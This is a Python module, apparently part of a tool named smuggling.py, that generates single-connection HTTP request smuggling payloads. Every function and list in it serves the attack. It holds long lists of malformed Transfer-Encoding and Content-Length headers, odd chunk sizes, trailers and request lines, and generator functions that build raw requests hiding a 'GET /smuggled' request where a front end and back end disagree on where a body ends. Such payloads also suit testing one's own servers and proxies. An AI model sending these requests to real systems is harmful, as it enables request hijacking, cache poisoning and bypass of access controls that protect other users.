"""The attacks of smuggling.py that need no more than one connection. Each hides a request in what one side may take for a
body: a request for /smuggled."""

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
LENGTH = len(SMUGGLED)
WITH_ALL = b"Content-Length: %d" % LENGTH
CHUNKED = b"Transfer-Encoding: chunked"
EMPTY = b"0\r\n\r\n"
CHUNK = b"%x\r\n" % LENGTH + SMUGGLED + b"\r\n" + EMPTY

# Spellings of a coding that one side may take for `chunked`, and the other may not see.
CODINGS = [
    b"Transfer-Encoding: chunked", b"transfer-encoding:chunked", b"TRANSFER-ENCODING: CHUNKED",
    b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: chunked\t ", b"Transfer-Encoding:  \t chunked",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked", b" Transfer-Encoding: chunked",
    b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked", b"Transfer-Encoding\r\n: chunked",
    b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: x\r\n\tchunked", b"X: x\r\n Transfer-Encoding: chunked",
    b"X: x\nTransfer-Encoding: chunked", b"X: x\rTransfer-Encoding: chunked", b"X: x\0\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\rX: x", b"Transfer-Encoding: chunked\nX: x", b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: \x0cchunked", b"Transfer-Encoding: chunked\0", b"Transfer-Encoding: chunked\xa0",
    b"Transfer-Encoding\0: chunked", b"\xefTransfer-Encoding: chunked", b"Transfer-Encoding: chunke\xc4\x91",
    b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: 'chunked'",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: chunked;",
    b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: , ,chunked,,",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: identity",
    b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: chunked, gzip", b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:", b"TE: chunked",
    b"Content-Encoding: chunked", b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked", b"Trailer: x\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked", b"Upgrade: h2c\r\nTransfer-Encoding: chunked",
    b"Expect: 100-continue\r\nTransfer-Encoding: chunked",
]

# Spellings of a length that others read as 0, as another number, or not at all.
LENGTHS = [
    b"+%d", b"-%d", b"0x%x", b"0%d", b"0000000000000000000000000%d", b"%d ", b"\t%d", b"%d\t", b"%d\x0b", b"\x0b%d",
    b"%d\0", b"%d.0", b"%de0", b"%d_0", b"%d;", b"%d,", b",%d", b"%d,%d", b"%d, %d", b"%d, 0", b"0, %d", b"'%d'", b'"%d"',
    b"%d x", b"%d 0", b"\xef\xbc\x91%d", b"1844674407370955%d", b"18446744073709551616%d", b"%d\r\n ", b"\r\n %d",
    b"%d\r\n 0", b"%d\r\nContent-Length: %d", b"%d\r\nContent-Length: 0", b"0\r\nContent-Length: %d",
    b"0\nContent-Length: %d", b"%d\nContent-Length: 0", b"0\rContent-Length: %d", b"%d\rX: x", b"",
]

# Spellings of a chunk's size.
SIZES = [b"0x%x", b"%x ", b" %x", b"\t%x", b"%x\t", b"0000000000000000000%x", b"+%x", b"-%x", b"%x\0", b"%x.", b"%xg", b"%x_0",
         b"1000000000000000%x", b"FFFFFFFFFFFFFFFF%x", b"\r\n%x", b"\n%x", b"%x;", b"%x;x", b"%x;x=y", b"%x ; x", b"%x;x=\"y\"",
         b"%x;x=\"\r\n0\r\n\r\n\"", b"%x;\nx", b"%x;x\n0\n\n", b"%x;\r0\r\n\r", b"%x;" + b"x" * 5000, b"%x x", b"%x,%x", b"%x;\0"]

# Beginnings of heads that are cut differently by different readers.
LINES = [
    b"POST %s HTTP/1.0\r\n", b"POST %s HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n", b"POST %s HTTP/1.2\r\nHost: h\r\n",
    b"POST %s HTTP/2.0\r\nHost: h\r\n", b"POST %s HTTP/0.9\r\nHost: h\r\n", b"POST %s http/1.1\r\nHost: h\r\n",
    b"POST %s HTTP/1.1 \r\nHost: h\r\n", b"POST  %s HTTP/1.1\r\nHost: h\r\n", b"POST %s  HTTP/1.1\r\nHost: h\r\n",
    b"POST\t%s\tHTTP/1.1\r\nHost: h\r\n", b"POST %s HTTP/1.1\nHost: h\r\n", b"POST %s HTTP/1.1\rHost: h\r\n",
    b"POST %s\r\nHost: h\r\n", b"POST %s HTTP/1.1 HTTP/1.1\r\nHost: h\r\n", b"POST %s? HTTP/1.1 HTTP/1.1\r\nHost: h\r\n",
    b"POST %s\0 HTTP/1.1\r\nHost: h\r\n", b"POST %s#x HTTP/1.1\r\nHost: h\r\n", b"POST http://h%s HTTP/1.1\r\nHost: h\r\n",
    b"POST http://other%s HTTP/1.1\r\nHost: h\r\n", b"POST %s HTTP/1.1\r\nHost: h\r\nHost: h\r\n", b"POST %s HTTP/1.1\r\n",
    b"POST %s HTTP/1.1\r\nHost: h\r\nHost: other\r\n", b"POST %s HTTP/1.1\r\nHost:\r\n", b"POST %s HTTP/1.1\r\nHost: h h\r\n",
    b"POST %s%%0d%%0a HTTP/1.1\r\nHost: h\r\n", b"POST %s?%%0d%%0aX:%%20x HTTP/1.1\r\nHost: h\r\n",
    b"\r\nPOST %s HTTP/1.1\r\nHost: h\r\n",
    b"\r\n\r\n\r\nPOST %s HTTP/1.1\r\nHost: h\r\n", b"\nPOST %s HTTP/1.1\r\nHost: h\r\n", b" POST %s HTTP/1.1\r\nHost: h\r\n",
    b"\rPOST %s HTTP/1.1\r\nHost: h\r\n", b"\0POST %s HTTP/1.1\r\nHost: h\r\n", b"POST %s HTTP/1.1\r\n\r\nHost: h\r\n",
    b"POST %s HTTP/1.1\r\nHost: h\r\nX: x\n\r\n", b"POST %s HTTP/1.1\r\nHost: h\r\nX: x\r\r\n", b"POST %s HTTP/1.1\r\nHost: h\n",
    b"POST %s HTTP/1.1\r\nHost: h\r\nX\r\n", b"POST %s HTTP/1.1\r\nHost: h\r\n: x\r\n",
    b"POST %s HTTP/1.1\r\nHost: h\r\nX : x\r\n",
    b"POST %s HTTP/1.1\r\n X: x\r\nHost: h\r\n", b"POST %s HTTP/1.1\r\nHost: h\r\nX: x\r\n y\r\n",
    b"POST %s HTTP/1.1\r\nHost: h\r\nX:\0\r\n",
    b"POST %s HTTP/1.1\r\nHost: h\r\nX: x\n\nGET /smuggled HTTP/1.1\r\n", b"POST %s HTTP/1.1\r\nHost: h\r\nX: x\r\n\nX: x\r\n",
]

def post(path, *fields, body=b"", line=None):
    start = line or b"POST %s HTTP/1.1\r\nHost: h\r\n" % path
    return start + b"".join(field + b"\r\n" for field in fields) + b"\r\n" + body

def with_two_lengths(path):
    """If two sides believe one length each, one takes the other's body for a request."""
    all_of_it = b"Content-Length: %d" % len(EMPTY + SMUGGLED)
    for coding in CODINGS:
        yield coding, post(path, coding, body=CHUNK)
        yield coding + b", and a length of all", post(path, all_of_it, coding, body=EMPTY + SMUGGLED)
        yield coding + b", before a length of all", post(path, coding, all_of_it, body=EMPTY + SMUGGLED)
        yield coding + b", and a length of the size line", post(path, b"Content-Length: 4", coding, body=CHUNK)
        yield coding + b", and a length of 0", post(path, b"Content-Length: 0", coding, body=CHUNK)
        old = b"POST %s HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n" % path
        yield coding + b" in HTTP/1.0", post(path, b"Content-Length: 4", coding, body=CHUNK, line=old)

def with_one_length(path):
    for spelling in LENGTHS:
        value = spelling % ((LENGTH,) * spelling.count(b"%"))
        yield b"Content-Length: " + value, post(path, b"Content-Length: " + value, body=SMUGGLED)
    for name in [b"Content-Length ", b"Content-Length\t", b" Content-Length", b"Content_Length", b"Content Length",
                 b"content-length", b"CONTENT-LENGTH", b"Content-Length\r\n", b"Content-Length\0", b"X\nContent-Length",
                 b"X: x\nContent-Length", b"X: x\rContent-Length", b"X: x\r\n Content-Length", b"\x0bContent-Length",
                 b"Connection: Content-Length\r\nContent-Length", b"\nContent-Length", b"X\r\nContent-Length"]:
        yield name, post(path, name + b": %d" % LENGTH, body=SMUGGLED)
        yield name + b", and a length of 0", post(path, name + b": %d" % LENGTH, b"Content-Length: 0", body=SMUGGLED)

def with_strange_chunks(path):
    """Chunks of which one side may see another end."""
    for spelling in SIZES:
        size = spelling % ((LENGTH,) * spelling.count(b"%"))
        yield b"chunk size " + size[:40], post(path, CHUNKED, body=size + b"\r\n" + SMUGGLED + b"\r\n" + EMPTY)
    for end in [b"\n", b"\r", b"\r\r\n", b"\n\r\n", b"\r\n\r\n", b"\r\n ", b" \r\n", b"", b"xx", b"\n\n", b"\rX"]:
        size_line = b"%x" % LENGTH + end
        yield b"end of the size line %r" % end, post(path, CHUNKED, body=size_line + SMUGGLED + b"\r\n" + EMPTY)
        yield b"end of the chunk %r" % end, post(path, CHUNKED, body=b"1\r\nx" + end + b"0\r\n\r\n" + SMUGGLED)
        yield b"end of the last size %r" % end, post(path, CHUNKED, body=b"0" + end + b"\r\n" + SMUGGLED)
        yield b"end of the trailers %r" % end, post(path, CHUNKED, body=b"0\r\nX: x\r\n" + end + SMUGGLED)
    for last in [b"0\r\n", b"0\r\n\r", b"0", b"00\r\n\r\n", b"0;x\r\n\r\n", b"0 \r\n\r\n", b"-0\r\n\r\n", b"\r\n\r\n",
                 b"0x0\r\n\r\n"]:
        yield b"last chunk %r" % last, post(path, CHUNKED, body=b"1\r\nx\r\n" + last + SMUGGLED)
    for trailers in [b"X: x", b"Content-Length: %d" % LENGTH, b"Transfer-Encoding: chunked", b"Host: other", b"X : x",
                     b"X: x\r\n y", b" X: x", b"X", b": x", b"X: x\nY: y", b"X: x\rY: y", b"X: \0", SMUGGLED.strip(),
                     b"X: " + b"x" * 20_000, b"Connection: close", b"X: x\n\n" + SMUGGLED.strip(), b"GET /smuggled HTTP/1.1"]:
        body = b"1\r\nx\r\n0\r\n" + trailers + b"\r\n\r\n" + SMUGGLED
        yield b"trailers " + trailers[:40], post(path, CHUNKED, b"Trailer: X", body=body)

def with_incomplete_bodies(path):
    for sent in [0, 1, LENGTH // 2, LENGTH - 1]:
        yield b"%d of %d bytes" % (sent, LENGTH), post(path, WITH_ALL, body=SMUGGLED[:sent])
        yield b"%d of 10,000 bytes" % sent, post(path, b"Content-Length: 10000", body=SMUGGLED[:sent])
        yield b"chunk that breaks off after %d bytes" % sent, post(path, CHUNKED, body=CHUNK[:4 + sent])
    yield b"256 KiB of 1 MB", post(path, b"Content-Length: 1000000", body=SMUGGLED + bytes(256 * 1024 - LENGTH))
    yield b"all of 600 KB", post(path, b"Content-Length: 600000", body=(SMUGGLED * 600_000)[:600_000])

def with_unread_bodies(path):
    """Bodies that the origin may leave unread, or that the method makes others overlook."""
    for method in [b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"TRACE", b"PATCH", b"PUT", b"get", b"X", b"SEARCH"]:
        line = b"%s %s HTTP/1.1\r\nHost: h\r\n" % (method, path)
        yield method + b" with a body", post(path, WITH_ALL, body=SMUGGLED, line=line)
        yield method + b" with chunks", post(path, CHUNKED, body=CHUNK, line=line)
        yield method + b" with no body, and a request", post(path, body=SMUGGLED, line=line)
    for field in [b"Expect: 100-continue", b"Expect: 100-Continue", b"Expect: 100-continue, x", b"Expect: x", b"Expect:",
                  b"Expect : 100-continue", b"Expect: 100-continue\r\nExpect: 100-continue",
                  b"Connection: close",
                  b"Connection: Expect\r\nExpect: 100-continue", b"Connection: keep-alive", b"Connection: Host", b"Upgrade: websocket\r\nConnection: upgrade",
                  b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA"]:
        yield field + b", with a body", post(path, field, WITH_ALL, body=SMUGGLED)
        yield field + b", with no body", post(path, field, WITH_ALL)
        yield field + b", with chunks", post(path, field, CHUNKED, body=CHUNK)

def with_strange_heads(path):
    for line in LINES:
        start = line % path
        yield start, post(path, WITH_ALL, body=SMUGGLED, line=start)
        yield start + b", with chunks", post(path, CHUNKED, body=CHUNK, line=start)

def vectors(path):
    """Yields the name and the bytes of each attack on a path."""
    for kind in [with_two_lengths, with_one_length, with_strange_chunks, with_incomplete_bodies, with_unread_bodies,
                 with_strange_heads]:
        yield from kind(path)
